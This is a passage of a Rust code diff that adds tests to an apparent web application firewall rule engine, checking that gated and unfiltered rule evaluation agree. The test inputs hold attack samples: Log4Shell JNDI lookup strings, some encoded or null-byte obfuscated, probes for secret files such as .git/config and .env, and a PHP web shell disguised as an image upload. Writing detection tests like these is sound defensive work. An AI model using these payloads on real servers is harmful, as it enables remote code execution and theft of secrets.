+            if matched && consider(index) {
+                return true;
+            }
+        }
+        false
     }
 }
 
@@ -1214,8 +1452,14 @@ mod tests {
             b"KEYED",
             b"q=0.9x",
             b"Q=0.1X",
+            b"//",
+            b"/.git",
+            b"/WP-login.php",
+            b".Env",
+            b"~",
+            b"/x/",
         ];
-        let mut request = Request::new();
+        let (mut request, mut path) = (Request::new(), Request::new());
         let (mut compared, mut hits) = (0, 0);
         for (i, a) in pieces.iter().enumerate() {
             for b in pieces.iter().skip(i % 3) {
@@ -1226,10 +1470,12 @@ mod tests {
                             request.add_input(source, key, &value);
                         }
                     }
-                    for set in &sets {
+                    // The path's chain normalises it: its pre-check is another one.
+                    path.set_path(&value);
+                    for (set, request) in sets.iter().flat_map(|set| [(set, &request), (set, &path)]) {
                         let mut scratch = RuleScratch::default();
-                        let gated = set.evaluate(&request, &mut scratch, |_| false, true);
-                        let unfiltered = set.evaluate(&request, &mut scratch, |_| false, false);
+                        let gated = set.evaluate(request, &mut scratch, |_| false, true);
+                        let unfiltered = set.evaluate(request, &mut scratch, |_| false, false);
                         assert_eq!(gated, unfiltered, "{:?}", String::from_utf8_lossy(&value));
                         compared += 1;
                         hits += usize::from(gated.is_some());
@@ -1238,6 +1484,74 @@ mod tests {
             }
         }
         assert!(compared > 5_000 && hits > 1_000 && hits < compared, "{hits} hits in {compared}");
+    }
+
+    /// Evaluation skips a subject when its gates say no rule can match it; the rules no
+    /// gate can vouch for still run: a regex without required literals, a rule on header
+    /// names, path and method access control (globs), an allow rule, a keyed rule, file
+    /// content checks, values whose transforms change them. Each case must give its rule,
+    /// as the unfiltered evaluation does.
+    #[test]
+    fn gated_evaluation_runs_every_rule_it_must() {
+        let set = engine_rules(
+            r#"{"rules":[
+                {"id":11,"targets":["body"],"match":{"regex":"^[^%]*zq[^%]*$"}},
+                {"id":12,"targets":["header_names"],"transforms":["lowercase"],"match":{"literals":["x-evil"]}},
+                {"id":13,"targets":["request.path"],"match":{"glob":"/admin/*"},"methods":["DELETE"],"action":"block"},
+                {"id":14,"targets":["request.path"],"match":{"glob":"/health"},"action":"allow"},
+                {"id":15,"targets":["header:x-token"],"match":{"regex":"^tok_[0-9]{3}$"}},
+                {"id":16,"targets":["cookie"],"transforms":["html_entity_decode"],"match":{"literals":["<b>"]}}
+            ]}"#,
+        )
+        .expect("rules compile");
+        assert!(
+            set.plans.iter().flatten().any(|p| matches!(p.gate, Gate::Always)),
+            "the regex without literals makes its gate always open"
+        );
+        type Inputs<'a> = &'a [(Source, &'a str, &'a str)];
+        let cases: &[(&str, Inputs<'_>, u32)] = &[
+            ("/", &[(Source::Body, "note", "plain words")], 0),
+            ("/", &[(Source::Body, "note", "a zq b")], 11),
+            ("/", &[(Source::Header, "X-Evil-Thing", "fine"), (Source::Query, "q", "fine")], 12),
+            ("/admin/users", &[(Source::Query, "q", "fine")], 13),
+            ("/health", &[(Source::Body, "note", "a zq b"), (Source::Query, "q", "${jndi:ldap://x/a}")], 0),
+            ("/", &[(Source::Header, "X-Token", "tok_123")], 15),
+            ("/", &[(Source::Header, "X-Other", "tok_123")], 0),
+            ("/", &[(Source::Cookie, "c", "&lt;b&gt;")], 16),
+            ("/", &[(Source::Header, "accept", "%24%7Bjndi:ldap://x%7D")], 900500),
+            ("/", &[(Source::Query, "q", "$\0{jndi:x}")], 900500),
+            ("/", &[(Source::Query, "q", "$%00{jndi:x}")], 900500),
+            ("/a//.git/config", &[], 900200),
+            ("/static//x/../.ENV", &[], 900201),
+            ("/blog/WP-login.php", &[], 900202),
+            ("/a\\b\\db.sql", &[], 900203),
+            ("/account/orders/1234/review", &[(Source::Body, "note", "plain words")], 0),
+        ];
+        let mut scratch = RuleScratch::default();
+        for &(path, inputs, expected) in cases {
+            for method in ["GET", "DELETE"] {
+                let mut r = Request::new();
+                r.set_path(path.as_bytes());
+                r.set_method(method.as_bytes());
+                for &(source, key, value) in inputs {
+                    r.add_input(source, key.as_bytes(), value.as_bytes());
+                }
+                let gated = set.evaluate(&r, &mut scratch, |_| false, true);
+                let unfiltered = set.evaluate(&r, &mut scratch, |_| false, false);
+                assert_eq!(gated, unfiltered, "{path} {method} {inputs:?}");
+                let expected = match expected {
+                    13 if method == "GET" => 0,
+                    _ => expected,
+                };
+                let id = gated.filter(|h| h.action != Some(RuleAction::Allow)).map_or(0, |h| h.id);
+                assert_eq!(id, expected, "{path} {method} {inputs:?}");
+            }
+        }
+        let mut r = Request::new();
+        r.add_file(b"upload", b"avatar.png", b"image/png", b"<?php system($_GET['c']); ?>");
+        let gated = set.evaluate(&r, &mut scratch, |_| false, true);
+        assert_eq!(gated, set.evaluate(&r, &mut scratch, |_| false, false));
+        assert_eq!(gated.map(|h| h.id), Some(900302));
     }
 
     #[test]
